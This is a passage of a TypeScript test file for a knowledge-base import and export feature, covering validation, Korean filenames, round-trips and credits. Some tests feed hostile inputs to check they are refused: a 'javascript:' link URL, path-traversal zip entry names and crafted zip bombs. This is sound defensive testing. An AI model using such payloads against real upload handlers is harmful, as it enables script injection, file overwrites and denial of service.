import fs from "node:fs";
import { strToU8, unzipSync, zipSync } from "fflate";
import iconv from "iconv-lite";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { closeSharedDatabase, writeTransaction } from "#db/client";
import { createSession } from "~/auth/sessions.server";
import { recordVote } from "~/knowledge/health.server";
import {
  exportKnowledgeBaseJson,
  exportKnowledgeBaseZip,
  startKnowledgeBaseExport,
} from "~/knowledge/transfer/export.server";
import { MAX_KB_IMPORT_BYTES, parseKbImportFile } from "~/knowledge/transfer/parse.server";
import type { ParsedKbImport } from "~/knowledge/transfer/portable.server";
import { applyKbImport, previewKbImport } from "~/knowledge/transfer/preview.server";
import { instanceKey } from "~/knowledge/transfer/relink.server";
import { parseWriteupForm, writeupFormSchema } from "~/knowledge/writeup-schema";
import {
  createWriteup,
  getWriteup,
  insertWriteup,
  markVerified,
  type WriteupInput,
} from "~/knowledge/writeups.server";
import { translate } from "~/lib/i18n/catalogs.server";
import { assignmentMentorOf } from "~/mentoring/writeup-access.server";
import { writeupValues } from "~/ui/writeup-form";
import { buildTestUser, buildUser } from "../../seeds/builders";
import { createTestDatabase, type DB, type TestDatabase, tempDir } from "../support/db";
import { writeupInput } from "../support/fixtures";
import { callRoute } from "../support/route";
import { turnsDuring } from "../support/wait";

let t: TestDatabase;
let lead: number;
beforeEach(async () => {
  t = await createTestDatabase();
  lead = await buildTestUser(t.db, "lead");
});
afterEach(async () => {
  await t.close();
});

const now = new Date("2026-11-25T10:00:00Z");

const en = translate("en");

/** A readable file, its problems and skip reasons (message keys) as an English reader sees them. */
function parsedOk(parsed: ParsedKbImport) {
  if (!parsed.ok) throw new Error(`expected a readable file, got: ${en.msg(parsed.message)}`);
  return {
    ...parsed,
    problems: parsed.problems.map((p) => ({
      ...p,
      where: en.msg(p.where),
      field: en.msg(p.field),
      problem: en.msg(p.problem),
    })),
    skipped: parsed.skipped.map((s) => ({
      ...s,
      where: en.msg(s.where),
      reason: en.msg(s.reason),
    })),
    items: parsed.items.map((item) => ({ ...item, where: en.msg(item.where) })),
  };
}

/** Parse, preview and apply, as the page does. */
async function importInto(db: DB, name: string, content: string | Uint8Array, type = "") {
  const parsed = parsedOk(await parseKbImportFile(name, type, content));
  const actor = await db
    .selectFrom("users")
    .select("id")
    .where("role", "=", "lead")
    .executeTakeFirst();
  const actorId = actor?.id ?? (await buildTestUser(db, "lead"));
  const importer = { viewer: { id: actorId, role: "lead" as const }, mentorOf: assignmentMentorOf };
  const preview = await previewKbImport(db, importer, parsed.items);
  const counts = await applyKbImport(db, { importer, items: parsed.items }, now);
  return { parsed, preview, counts };
}

async function writeupByExternalId(db: DB, externalId: string) {
  const row = await db
    .selectFrom("writeups")
    .select("id")
    .where("external_id", "=", externalId)
    .executeTakeFirstOrThrow();
  const writeup = await getWriteup(db, row.id);
  if (!writeup) throw new Error("gone");
  return writeup;
}

async function writeupCount(db: DB) {
  const row = await db
    .selectFrom("writeups")
    .select((eb) => eb.fn.countAll<number>().as("n"))
    .executeTakeFirstOrThrow();
  return Number(row.n);
}

const GOOD = {
  external_id: "OPS-1",
  title: "Invoice totals off by a cent",
  component: "Billing",
  resolution: "fixed",
  tags: ["Rounding", "invoices"],
  symptom: "Totals show 10.01 instead of 10.00.",
  root_cause: "Float arithmetic.",
  fix: "Use integer cents.",
  debugging: "Bisected the change.",
  links: [{ label: "PR", url: "https://github.com/o/r/pull/1" }],
  toil: [{ description: "Corrected invoices by hand", minutes: 30 }],
};

const zip = (files: Record<string, string | Uint8Array>) =>
  zipSync(
    Object.fromEntries(
      Object.entries(files).map(([name, body]) => [
        name,
        typeof body === "string" ? strToU8(body) : body,
      ]),
    ),
  );

const markdown = (frontMatter: string, body: string) => `---\n${frontMatter}\n---\n\n${body}`;

describe("importing JSON", () => {
  it("imports good items as published, lists each bad one's reason, and updates on re-import", async () => {
    const items = [
      GOOD,
      { ...GOOD, external_id: "OPS-2", title: "" },
      { ...GOOD, external_id: "OPS-3", resolution: "solved" },
      { ...GOOD, external_id: "OPS-4", links: [{ label: "x", url: "javascript:alert(1)" }] },
      { ...GOOD, external_id: "OPS-5", toil: [{ description: "x", minutes: -5 }] },
      "not an object",
      { ...GOOD, title: "Same id again" },
      { ...GOOD, external_id: undefined, id: undefined },
      { ...GOOD, external_id: "OPS-9", status: "draft" },
      { ...GOOD, id: 10, external_id: undefined, title: "By id", owner: "someone" },
    ];
    const { parsed, preview, counts } = await importInto(
      t.db,
      "kb.json",
      JSON.stringify(items),
      "application/json",
    );
    expect(parsed.format).toBe("json");
    expect(parsed.problems).toEqual([
      { where: "item 2", field: "title", problem: "is required" },
      {
        where: "item 3",
        field: "resolution",
        problem:
          "must be one of fixed, works_as_designed, config_change, data_fix, duplicate, cannot_reproduce",
      },
      {
        where: "item 4",
        field: "links[0].url",
        problem: "must be an http(s) URL or a path inside Koan such as /kb/12",
      },
      { where: "item 5", field: "toil[0].minutes", problem: "can't be negative" },
      { where: "item 6", field: "item", problem: 'must be an object like {"title": …}' },
      { where: "item 7", field: "external_id", problem: "“OPS-1” is also item 1" },
      {
        where: "item 8",
        field: "external_id",
        problem: "is required (or id), so importing again updates instead of duplicating",
      },
    ]);
    expect(parsed.skipped).toEqual([
      { where: "item 9", reason: "a draft: only published write-ups are imported" },
    ]);
    expect(parsed.ignoredFields).toEqual(["owner"]);
    expect(preview).toMatchObject({ create: 2, update: 0, unchanged: 0 });
    expect(counts).toEqual({ created: 2, updated: 0, unchanged: 0, refused: 0 });

    const stored = await writeupByExternalId(t.db, "OPS-1");
    expect(stored).toMatchObject({
      status: "published",
      author_id: null,
      component: "billing",
      root_cause: "Float arithmetic.",
      tags: ["invoices", "rounding"],
      links: [{ label: "PR", url: "https://github.com/o/r/pull/1" }],
      toil: [{ description: "Corrected invoices by hand", minutes: 30 }],
    });
    expect(stored.published_at).toBe(now.toISOString());
    expect((await writeupByExternalId(t.db, "10")).title).toBe("By id");

    // The same file again changes nothing; an edited one updates in place.
    const again = await importInto(t.db, "kb.json", JSON.stringify([GOOD]));
    expect(again.counts).toEqual({ created: 0, updated: 0, unchanged: 1, refused: 0 });
    const edited = await importInto(t.db, "kb.json", JSON.stringify([{ ...GOOD, fix: "Round." }]));
    expect(edited.preview).toMatchObject({ create: 0, update: 1 });
    expect(edited.counts).toEqual({ created: 0, updated: 1, unchanged: 0, refused: 0 });
    expect((await writeupByExternalId(t.db, "OPS-1")).fix).toBe("Round.");
    expect(await writeupCount(t.db)).toBe(2);
    const audit = await t.db
      .selectFrom("audit_events")
      .select(["actor_id", "data"])
      .where("action", "=", "writeups.imported")
      .execute();
    expect(audit).toHaveLength(3);
    expect(audit[0]?.actor_id).toBe(lead);
  });

  it("refuses a file as a whole when it is not JSON or zip, too large, malformed or not an array", async () => {
    const refused = async (name: string, content: string | Uint8Array, type = "") => {
      const parsed = await parseKbImportFile(name, type, content);
      if (parsed.ok) throw new Error(`expected ${name} to be refused`);
      return en.msg(parsed.message);
    };
    expect(await refused("kb.csv", "a,b")).toMatch(/isn't a JSON file or a zip/);
    expect(await refused("kb.json", "")).toMatch(/is empty/);
    expect(await refused("kb.json", "[{")).toMatch(/isn't valid JSON/);
    expect(await refused("kb.json", '{"title": "x"}')).toMatch(/must hold a JSON array/);
    expect(await refused("kb.json", "[]")).toMatch(/no write-ups/);
    expect(await refused("kb.json", new Uint8Array([0xff, 0xfe, 0x00]))).toMatch(/isn't UTF-8/);
    expect(await refused("kb.json", new Uint8Array(MAX_KB_IMPORT_BYTES + 1).fill(32))).toMatch(
      /larger than 10 MB/,
    );
  });
});

describe("reading a big import", () => {
  // Read and checked in one go, a 10 MB knowledge-base file held the event loop for 220–430 ms
  // (every other person's page waited): both formats now let other work in between their steps.
  const items = Array.from({ length: 1_500 }, (_, i) => ({
    ...GOOD,
    external_id: `BIG-${i}`,
    title: `결제 재시도 ${i}: the retry ran twice`,
    symptom: `${"The card was charged twice. ".repeat(40)}${i}`,
  }));

  it("lets the event loop turn while it reads a JSON file of 1,500 write-ups", async () => {
    let parsed: ParsedKbImport | null = null;
    const turns = await turnsDuring(async () => {
      parsed = await parseKbImportFile("big.json", "application/json", JSON.stringify(items));
    });
    expect(turns).toBeGreaterThan(0);
    expect(parsedOk(parsed ?? { ok: false, message: "" }).items).toHaveLength(1_500);
  });

  it("lets the event loop turn while it reads a zip of 1,500 Markdown files", async () => {
    const archive = zip(
      Object.fromEntries(
        items.map((item) => [
          `kb/${item.external_id}.md`,
          markdown(
            `external_id: "${item.external_id}"\ntitle: "${item.title}"\ncomponent: billing\nresolution: fixed`,
            `## Symptom\n\n${item.symptom}\n\n## Root cause\n\nFloat arithmetic.\n\n## Fix\n\nInteger cents.`,
          ),
        ]),
      ),
    );
    let parsed: ParsedKbImport | null = null;
    const turns = await turnsDuring(async () => {
      parsed = await parseKbImportFile("big.zip", "application/zip", archive);
    });
    expect(turns).toBeGreaterThan(0);
    const read = parsedOk(parsed ?? { ok: false, message: "" });
    expect(read.problems).toEqual([]);
    expect(read.items).toHaveLength(1_500);
  });
});

describe("importing a zip of Markdown files", () => {
  const good = markdown(
    'external_id: "MD-1"\ntitle: "Search ignores accents: café"\ncomponent: search\nresolution: works_as_designed\ntags: [search, "needs, comma"]',
    [
      "# Search ignores accents",
      "",
      "## Symptom",
      "",
      "Searching *cafe* finds *café*.",
      "",
      "## Root cause",
      "",
      "The index folds accents.",
      "",
      "## Expected behaviour",
      "",
      "Folding is on purpose.",
      "",
      "## How it was debugged",
      "",
      "Read the tokenizer docs.",
      "",
      "## Links",
      "",
      "- [FTS5 docs \\[unicode61\\]](https://sqlite.org/fts5.html)",
      "",
      "## Toil",
      "",
      "- Answered the same question — 15 min",
      "",
    ].join("\n"),
  );

  it("reads Korean names and text as Windows and a Mac write them: one write-up for the same file", async () => {
    const body = markdown("title: 정산 배치 중단\nresolution: fixed", "## Symptom\n\n월말에 멈춤.");
    // Windows' own compressed folder writes names in code page 949, without the UTF-8 flag:
    // zipped under a placeholder of as many bytes, then the name's bytes put in its place.
    const korean = new Uint8Array(iconv.encode("장애/정산.md", "cp949"));
    const placeholder = "x".repeat(korean.length);
    // Its Markdown saved by Notepad there ("ANSI"): code page 949 too.
    const windows = zip({ [placeholder]: new Uint8Array(iconv.encode(body, "cp949")) });
    const ascii = strToU8(placeholder);
    for (let at = 0; at + ascii.length <= windows.length; at++)
      if (ascii.every((b, i) => windows[at + i] === b)) windows.set(korean, at);
    const fromWindows = await importInto(t.db, "kb.zip", windows, "application/zip");
    expect(fromWindows.parsed.problems).toEqual([]);
    expect(fromWindows.counts).toMatchObject({ created: 1 });
    expect(await writeupByExternalId(t.db, "md:장애/정산")).toMatchObject({
      title: "정산 배치 중단",
      symptom: "월말에 멈춤.",
    });
    // The same file zipped on a Mac (names decomposed, flagged UTF-8) is the same write-up.
    const mac = zip({ ["장애/정산.md".normalize("NFD")]: body });
    const fromMac = await importInto(t.db, "kb.zip", mac, "application/zip");
    expect(fromMac.counts).toMatchObject({ created: 0, unchanged: 1 });
  });

  it("reads sections headed as a Korean team writes them, the names Koan's Korean pages give them", async () => {
    const body = markdown(
      "title: 정산 배치 중단\nresolution: fixed",
      [
        "## 증상",
        "",
        "월말에 멈춤.",
        "",
        "## 근본 원인",
        "",
        "인덱스 없는 조회.",
        "",
        "## 수정 내용",
        "",
        "인덱스를 추가함.",
        "",
        "## 디버깅 과정",
        "",
        "슬로 쿼리 로그를 봄.",
        "",
        "## 링크",
        "",
        "- [PR](https://github.com/acme/app/pull/7)",
        "",
        "## 반복 작업",
        "",
        "- 배치 재실행 — 20 min",
      ].join("\n"),
    );
    const result = await importInto(
      t.db,
      "kb.zip",
      zip({ "정산/배치.md": body }),
      "application/zip",
    );
    expect(result.parsed.problems).toEqual([]);
    expect(await writeupByExternalId(t.db, "md:정산/배치")).toMatchObject({
      symptom: "월말에 멈춤.",
      root_cause: "인덱스 없는 조회.",
      fix: "인덱스를 추가함.",
      debugging: "슬로 쿼리 로그를 봄.",
      links: [{ label: "PR", url: "https://github.com/acme/app/pull/7" }],
      toil: [{ description: "배치 재실행", minutes: 20 }],
    });
  });

  it("reads a resolution kind written as Koan's pages name it, in Korean or English", async () => {
    const files = {
      "의도/알림.md": markdown(
        "title: 조용한 시간에도 알림이 옴\nresolution: 의도된 동작",
        "## 증상\n\n밤에 옴.",
      ),
      "의도/재현.md": markdown("title: 가끔 멈춤\nresolution: 재현 불가", "## 증상\n\n가끔."),
      "의도/설정.md": markdown(
        "title: Wrong sender\nresolution: Config change",
        "## Symptom\n\nOdd.",
      ),
      "의도/모름.md": markdown("title: 모르는 유형\nresolution: 해결됨", "## 증상\n\n?"),
    };
    const result = await importInto(t.db, "kb.zip", zip(files), "application/zip");
    // A name Koan doesn't give a kind is still refused, with the codes to choose from.
    expect(result.parsed.problems).toEqual([
      {
        where: "의도/모름.md",
        field: "resolution",
        problem: expect.stringContaining("fixed, works_as_designed"),
      },
    ]);
    expect(await writeupByExternalId(t.db, "md:의도/알림")).toMatchObject({
      resolution: "works_as_designed",
    });
    expect(await writeupByExternalId(t.db, "md:의도/재현")).toMatchObject({
      resolution: "cannot_reproduce",
    });
    expect(await writeupByExternalId(t.db, "md:의도/설정")).toMatchObject({
      resolution: "config_change",
    });
  });

  it("lists a component the write-up's form would refuse as a problem on its file, and imports the others", async () => {
    const archive = zip({
      "kb/good.md": good,
      "kb/dot-github.md": markdown(
        "external_id: MD-2\ntitle: CI secrets\ncomponent: .github\nresolution: fixed",
        "## Symptom\n\nThe workflow can't read its secret.",
      ),
    });
    const { parsed, counts } = await importInto(t.db, "kb.zip", archive, "application/zip");
    expect(parsed.problems).toEqual([
      {
        where: "kb/dot-github.md",
        field: "component",
        problem: "must start with a letter or digit, then use letters, digits, spaces and - _ . /",
      },
    ]);
    expect(counts.created).toBe(1);
    expect(await writeupCount(t.db)).toBe(1);
    // The JSON door says the same.
    const json = await parseKbImportFile(
      "kb.json",
      "application/json",
      JSON.stringify([{ ...GOOD, component: "-" }]),
    );
    expect(parsedOk(json).problems).toMatchObject([{ field: "component" }]);
  });

  it("imports .md files, refuses traversal names and bad files, and skips everything else", async () => {
    const archive = zip({
      "kb/good.md": good,
      "kb/no-id.md": markdown(
        "title: Path is the id\nresolution: fixed",
        "## Symptom\n\nIt broke.",
      ),
      "../escape.md": good,
      "/etc/absolute.md": good,
      "kb/..\\windows.md": good,
      "kb/picture.png": new Uint8Array([0x89, 0x50, 0x4e, 0x47]),
      "__MACOSX/kb/._good.md": "junk",
      "kb/no-front-matter.md": "## Symptom\n\nIt broke.",
      "kb/bad-fields.md": markdown(
        "title: Bad\nresolution: solved\ntags: [a, b\nowner: me",
        "## Symptom\n\nx\n\n## Links\n\n- see https://example.com\n\n## Toil\n\n- lots of time\n\n## Symptom\n\nagain",
      ),
      "kb/preamble.md": markdown("title: P\nresolution: fixed", "Stray text\n\n## Symptom\n\nx"),
    });
    const { parsed, counts } = await importInto(t.db, "kb.zip", archive, "application/zip");
    expect(parsed.format).toBe("zip");
    expect(parsed.problems).toEqual([
      { where: "../escape.md", field: "file name", problem: "its name leads outside the zip (..)" },
      { where: "/etc/absolute.md", field: "file name", problem: "its name is an absolute path" },
      {
        where: "kb/..\\windows.md",
        field: "file name",
        problem: "its name leads outside the zip (..)",
      },
      {
        where: "kb/no-front-matter.md",
        field: "front matter",
        problem:
          "is missing: start the file with a --- line, then title: and resolution: lines, then ---",
      },
      { where: "kb/bad-fields.md", field: "front matter", problem: "tags: a list must end with ]" },
      {
        where: "kb/bad-fields.md",
        field: "symptom",
        problem: "the “## Symptom” section appears twice",
      },
      {
        where: "kb/bad-fields.md",
        field: "links",
        problem: "write each link as - [label](https://…), not “- see https://example.com”",
      },
      {
        where: "kb/bad-fields.md",
        field: "toil",
        problem: "write each entry as - what was done by hand — 15 min, not “- lots of time”",
      },
      {
        where: "kb/bad-fields.md",
        field: "resolution",
        problem:
          "must be one of fixed, works_as_designed, config_change, data_fix, duplicate, cannot_reproduce",
      },
      {
        where: "kb/preamble.md",
        field: "body",
        problem: "has text before the first section: put it under ## Symptom",
      },
    ]);
    expect(parsed.skipped).toEqual([
      { where: "kb/picture.png", reason: "not a Markdown (.md) file" },
      { where: "__MACOSX/kb/._good.md", reason: "macOS metadata, not a write-up" },
    ]);
    expect(parsed.ignoredFields).toEqual(["owner"]);
    expect(counts).toEqual({ created: 2, updated: 0, unchanged: 0, refused: 0 });

    expect(await writeupByExternalId(t.db, "MD-1")).toMatchObject({
      title: "Search ignores accents: café",
      component: "search",
      resolution: "works_as_designed",
      tags: ["needs,-comma", "search"],
      symptom: "Searching *cafe* finds *café*.",
      root_cause: "The index folds accents.",
      fix: "Folding is on purpose.",
      debugging: "Read the tokenizer docs.",
      links: [{ label: "FTS5 docs [unicode61]", url: "https://sqlite.org/fts5.html" }],
      toil: [{ description: "Answered the same question", minutes: 15 }],
      status: "published",
    });
    expect((await writeupByExternalId(t.db, "md:kb/no-id")).symptom).toBe("It broke.");
  });

  it("guards against zip bombs: entry count, unpacked size, and entries that lie about their size", async () => {
    const refused = async (content: Uint8Array) => {
      const parsed = await parseKbImportFile("kb.zip", "application/zip", content);
      if (parsed.ok) throw new Error("expected the zip to be refused");
      return en.msg(parsed.message);
    };
    const many: Record<string, string> = {};
    for (let i = 0; i < 5001; i++) many[`${i}.md`] = "";
    expect(await refused(zip(many))).toMatch(/holds 5,001 files; a zip may hold at most 5,000/);

    // 60 MB of zeros compresses to ~60 KB: refused from the directory, before inflating anything.
    const bomb = zipSync({ "bomb.md": new Uint8Array(60 * 1024 * 1024) }, { level: 9 });
    expect(bomb.length).toBeLessThan(MAX_KB_IMPORT_BYTES);
    expect(await refused(bomb)).toMatch(/unpacks to more than 50 MB/);

    // An entry whose directory says 100 bytes but that inflates to 20 MB stops at 100 bytes.
    const liar = zipSync({ "liar.md": new Uint8Array(20 * 1024 * 1024).fill(65) }, { level: 9 });
    const view = new DataView(liar.buffer, liar.byteOffset, liar.byteLength);
    const central = liar.findIndex(
      (_, i) => i + 4 <= liar.length && view.getUint32(i, true) === 0x02014b50,
    );
    view.setUint32(central + 24, 100, true);
    const parsed = parsedOk(await parseKbImportFile("kb.zip", "", liar));
    expect(parsed.problems).toEqual([
      { where: "liar.md", field: "file", problem: "unpacks to more than the zip's directory says" },
    ]);
    expect(await refused(new Uint8Array([0x50, 0x4b, 3, 4, 1, 2, 3]))).toMatch(
      /isn't a readable zip/,
    );
  });
});

/** Reads a stream to its end: how many chunks and bytes it gave. */
async function readStream(stream: ReadableStream<Uint8Array>) {
  let chunks = 0;
  let bytes = 0;
  const reader = stream.getReader();
  for (let next = await reader.read(); !next.done; next = await reader.read()) {
    chunks++;
    bytes += next.value.length;
  }
  return { chunks, bytes };
}

describe("an export whose reader hangs up", () => {
  it("makes nothing more, and the person may export again at once", async () => {
    // More than one page of write-ups (250 a page), so that an export has more to make.
    await writeTransaction(t.db, async (trx) => {
      for (let i = 0; i < 300; i++)
        await insertWriteup(trx, {
          authorId: lead,
          status: "published",
          writeup: writeupInput({
            title: `결제 재시도 ${i}`,
            symptom: "The card was charged twice. ".repeat(20),
          }),
        });
    });
    const actor = { id: lead, role: "lead" as const };
    for (const format of ["json", "zip"] as const) {
      let asked = 0;
      const started = startKnowledgeBaseExport(t.db, {
        actor,
        format,
        // The response takes the first chunk; then its client is gone.
        untilWritable: async () => asked++ === 0,
      });
      if (!started.ok) throw new Error(started.reason);
      expect(startKnowledgeBaseExport(t.db, { actor, format })).toEqual({
        ok: false,
        reason: "busy",
      });
      const read = await readStream(started.body);
      expect(read.chunks).toBe(1);
      const whole = startKnowledgeBaseExport(t.db, { actor, format });
      if (!whole.ok) throw new Error(`still busy after a hang-up: ${whole.reason}`);
      const full = await readStream(whole.body);
      expect(full.chunks).toBeGreaterThan(1);
      expect(full.bytes).toBeGreaterThan(read.bytes);
    }
  });
});

describe("export then import", () => {
  const base: WriteupInput = {
    title: "Invoice totals off by a cent",
    symptom: "Totals show 10.01.\r\n\r\n",
    component: "billing",
    rootCause: "Float arithmetic.",
    fix: "Use integer cents.",
    debugging: "Bisected.",
    resolution: "fixed",
    tags: ["rounding"],
    links: [],
    toil: [],
  };
  const variants: WriteupInput[] = [
    base,
    {
      ...base,
      title: '[Draft-looking] "Quoted": title with # and: colon ',
      component: "",
      resolution: "works_as_designed",
      symptom: "Lines that look like sections:\n## Fix\n\\## Links\n\n```\n## Toil\n```",
      rootCause: "",
      fix: "  indented code\n\n- a list",
      debugging: "## Notes\n\n\n\nA heading of our own, after blank lines.\n\n\n",
      tags: ["a,b", "c]d", '"quoted"', "o'neil", "Web UI"],
      links: [
        { label: "Label with ] and [ and \\", url: "https://example.com/a_(b)?q=1#x" },
        { label: "", url: "http://example.com" },
      ],
      toil: [
        { description: "Restarted — 5 min later — again", minutes: 15 },
        { description: "Zero", minutes: 0 },
      ],
    },
    {
      ...base,
      title: "결제 오류 재현",
      component: "결제",
      resolution: "data_fix",
      tags: ["한국어"],
      symptom: "결제가 실패합니다.",
    },
  ];

  /** The source's author, who has an account on the instances imported into too. */
  const AUTHOR = { email: "ha-eun.cho@koan.test", name: "조하은", role: "mentor" } as const;

  /** A source knowledge base: published write-ups, a draft (not exported), one with its own id. */
  async function seedSource(db: DB) {
    const author = await buildUser(db, AUTHOR);
    for (const [index, writeup] of variants.entries()) {
      await createWriteup(db, { authorId: author, writeup, status: "published" }, now);
      if (index === 0) await createWriteup(db, { authorId: author, writeup }, now); // a draft
    }
    await createWriteup(
      db,
      {
        authorId: author,
        writeup: { ...base, title: "Own id" },
        status: "published",
        externalId: "JIRA-7",
      },
      now,
    );
  }

  const withoutIdPrefix = (name: string) => name.replace(/^\d+-/, "");

  function zipContents(archive: Uint8Array) {
    const files = unzipSync(archive);
    return Object.entries(files).map(([name, bytes]) => ({
      name: withoutIdPrefix(name),
      text: new TextDecoder().decode(bytes),
    }));
  }

  it("gives the same knowledge base through JSON and through a zip", async () => {
    await seedSource(t.db);
    const json = await exportKnowledgeBaseJson(t.db);
    const exported = JSON.parse(json) as { external_id: string; title: string }[];
    const key = await instanceKey(t.db);
    expect(key).toMatch(/^[0-9a-f]{12}$/);
    expect(exported.map((w) => w.external_id)).toEqual([
      `koan-${key}-1`,
      `koan-${key}-3`,
      `koan-${key}-4`,
      "JIRA-7",
    ]);
    const archive = await exportKnowledgeBaseZip(t.db, now);
    expect(Object.keys(unzipSync(archive))).toEqual([
      "1-invoice-totals-off-by-a-cent.md",
      "3-draft-looking-quoted-title-with-and-colon.md",
      "4-결제-오류-재현.md",
      "5-own-id.md",
    ]);

    const viaJson = await createTestDatabase();
    const viaZip = await createTestDatabase();
    try {
      // The author has an account on both: each write-up comes in as theirs, and exports as it left.
      await buildUser(viaJson.db, AUTHOR);
      await buildUser(viaZip.db, AUTHOR);
      const fromJson = await importInto(viaJson.db, "kb.json", json);
      expect(fromJson.parsed.problems).toEqual([]);
      expect(fromJson.counts).toEqual({ created: 4, updated: 0, unchanged: 0, refused: 0 });
      expect(await exportKnowledgeBaseJson(viaJson.db)).toBe(json);

      const fromZip = await importInto(viaZip.db, "kb.zip", archive);
      expect(fromZip.parsed.problems).toEqual([]);
      expect(fromZip.parsed.skipped).toEqual([]);
      expect(fromZip.counts).toEqual({ created: 4, updated: 0, unchanged: 0, refused: 0 });
      expect(zipContents(await exportKnowledgeBaseZip(viaZip.db, now))).toEqual(
        zipContents(archive),
      );
      // Both formats carry everything: the zip's knowledge base exports the same JSON.
      expect(await exportKnowledgeBaseJson(viaZip.db)).toBe(json);

      // Importing the export again changes nothing.
      expect((await importInto(viaJson.db, "kb.json", json)).counts).toEqual({
        created: 0,
        updated: 0,
        unchanged: 4,
        refused: 0,
      });
      expect((await importInto(viaZip.db, "kb.zip", archive)).counts).toEqual({
        created: 0,
        updated: 0,
        unchanged: 4,
        refused: 0,
      });
    } finally {
      await viaJson.close();
      await viaZip.close();
    }
  });
});

describe("an export names who wrote and who verified each write-up, and counts its votes", () => {
  const writer = { email: "Min-jun.Kim@koan.test", name: "김민준", role: "newcomer" } as const;
  const verifier = { email: "verifier@koan.test", name: "Tomás Rivera", role: "mentor" } as const;
  const verifiedAt = new Date("2026-10-01T09:00:00.000Z");

  /** A write-up by `writer`, verified, with two helpful votes and one not; and one by nobody. */
  async function seedCredited(db: DB) {
    const author = await buildUser(db, writer);
    const mentor = await buildUser(db, verifier);
    const credited = await createWriteup(
      db,
      { authorId: author, writeup: writeupInput({ title: "Credited" }), status: "published" },
      now,
    );
    await writeTransaction(db, (trx) =>
      markVerified(trx, { writeupId: credited, verifierId: mentor }, verifiedAt),
    );
    for (const helpful of [true, true, false]) {
      const voter = await buildTestUser(db, "newcomer", {
        email: `voter-${helpful}-${Math.random()}@koan.test`,
      });
      await recordVote(db, { writeupId: credited, userId: voter, helpful }, now);
    }
    await createWriteup(
      db,
      { authorId: null, writeup: writeupInput({ title: "Uncredited" }), status: "published" },
      now,
    );
  }

  const CREDITS = {
    author_name: "김민준",
    author_email: "Min-jun.Kim@koan.test",
    verified_by_name: "Tomás Rivera",
    verified_by_email: "verifier@koan.test",
    verified_at: verifiedAt.toISOString(),
    helpful_votes: 2,
    not_helpful_votes: 1,
  };

  async function authorsOf(db: DB) {
    return db
      .selectFrom("writeups as w")
      .leftJoin("users as u", "u.id", "w.author_id")
      .select(["w.title", "u.email", "w.verified_by"])
      .orderBy("w.title")
      .execute();
  }

  it("writes name and e-mail of author and verifier and the vote counts, never who voted, in JSON and Markdown", async () => {
    await seedCredited(t.db);
    const json = await exportKnowledgeBaseJson(t.db);
    const [credited, uncredited] = JSON.parse(json) as Record<string, unknown>[];
    expect(credited).toMatchObject(CREDITS);
    for (const key of Object.keys(CREDITS)) expect(uncredited).not.toHaveProperty(key);
    expect(json).not.toMatch(/voter-/);
    const files = unzipSync(await exportKnowledgeBaseZip(t.db, now));
    const [creditedFile, uncreditedFile] = Object.values(files).map((b) =>
      new TextDecoder().decode(b),
    );
    expect(creditedFile).toContain(
      [
        "author_name: 김민준",
        "author_email: Min-jun.Kim@koan.test",
        "verified_by_name: Tomás Rivera",
        "verified_by_email: verifier@koan.test",
        `verified_at: ${verifiedAt.toISOString()}`,
        "helpful_votes: 2",
        "not_helpful_votes: 1",
        "---",
      ].join("\n"),
    );
    expect(uncreditedFile).not.toMatch(/author_|verified_|_votes/);
    expect(new TextDecoder().decode(Object.values(files)[0])).not.toMatch(/voter-/);
  });

  it("imports into a fresh instance without a problem: the author by e-mail when they have an account there", async () => {
    await seedCredited(t.db);
    const json = await exportKnowledgeBaseJson(t.db);
    const archive = await exportKnowledgeBaseZip(t.db, now);
    for (const [name, file] of [
      ["kb.json", json],
      ["kb.zip", archive],
    ] as const) {
      // Where the author has an account (their address in another case): theirs.
      const withAuthor = await createTestDatabase();
      // Where nobody has that address: no author, and nothing refused.
      const without = await createTestDatabase();
      try {
        await buildUser(withAuthor.db, { ...writer, email: writer.email.toLowerCase() });
        await buildUser(withAuthor.db, verifier);
        const imported = await importInto(withAuthor.db, name, file);
        expect(imported.parsed.problems).toEqual([]);
        expect(imported.parsed.ignoredFields).toEqual([]);
        expect(imported.counts).toMatchObject({ created: 2, refused: 0 });
        // A sign-off is given in Koan, not by a file: the verifier's account signs off nothing.
        expect(await authorsOf(withAuthor.db)).toEqual([
          { title: "Credited", email: "min-jun.kim@koan.test", verified_by: null },
          { title: "Uncredited", email: null, verified_by: null },
        ]);
        // The audit says nobody here wrote it: the import's own entry names the importer.
        const created = await withAuthor.db
          .selectFrom("audit_events")
          .select("actor_id")
          .where("action", "=", "writeup.created")
          .execute();
        expect(created).toEqual([{ actor_id: null }, { actor_id: null }]);

        const other = await importInto(without.db, name, file);
        expect(other.parsed.problems).toEqual([]);
        expect(other.counts).toMatchObject({ created: 2, refused: 0 });
        expect(await authorsOf(without.db)).toEqual([
          { title: "Credited", email: null, verified_by: null },
          { title: "Uncredited", email: null, verified_by: null },
        ]);
      } finally {
        await withAuthor.close();
        await without.close();
      }
    }
  });

  it("names a vote count or a verification date it can't read, in English and Korean", async () => {
    const items = [
      { ...GOOD, external_id: "A", helpful_votes: -1 },
      { ...GOOD, external_id: "B", not_helpful_votes: "many", verified_at: "last week" },
      { ...GOOD, external_id: "C", author_name: "Line\nbreak", helpful_votes: "3" },
    ];
    const parsed = await parseKbImportFile("kb.json", "", JSON.stringify(items));
    const ok = parsedOk(parsed);
    expect(ok.problems).toEqual([
      { where: "item 1", field: "helpful_votes", problem: "can't be negative" },
      { where: "item 2", field: "verified_at", problem: expect.stringMatching(/date/) },
      { where: "item 2", field: "not_helpful_votes", problem: "must be a whole number, 0 or more" },
      { where: "item 3", field: "author_name", problem: expect.stringMatching(/one line/) },
    ]);
    if (!parsed.ok) throw new Error("unreadable");
    const ko = translate("ko");
    expect(ko.msg(parsed.problems[2]?.problem ?? "")).toBe("0 이상의 정수여야 해요");
  });
});

describe("a knowledge base moved to a new instance keeps its dates", () => {
  const published = new Date("2024-03-04T05:06:07.000Z");
  const edited = "2025-01-02T03:04:05.000Z";

  async function datesOf(db: DB) {
    return db
      .selectFrom("writeups")
      .select(["external_id", "created_at", "published_at", "updated_at"])
      .orderBy("external_id")
      .execute();
  }

  it("publishes and last changes each write-up when the source did, through JSON and through a zip", async () => {
    const writer = {
      email: "dates.author@koan.test",
      name: "Dates Author",
      role: "mentor",
    } as const;
    const author = await buildUser(t.db, writer);
    const id = await createWriteup(
      t.db,
      {
        authorId: author,
        writeup: {
          ...writeupInput({
            title: "환불 버튼이 회색으로 보임",
            component: "결제",
            symptom: "환불 버튼이 **회색**이에요.",
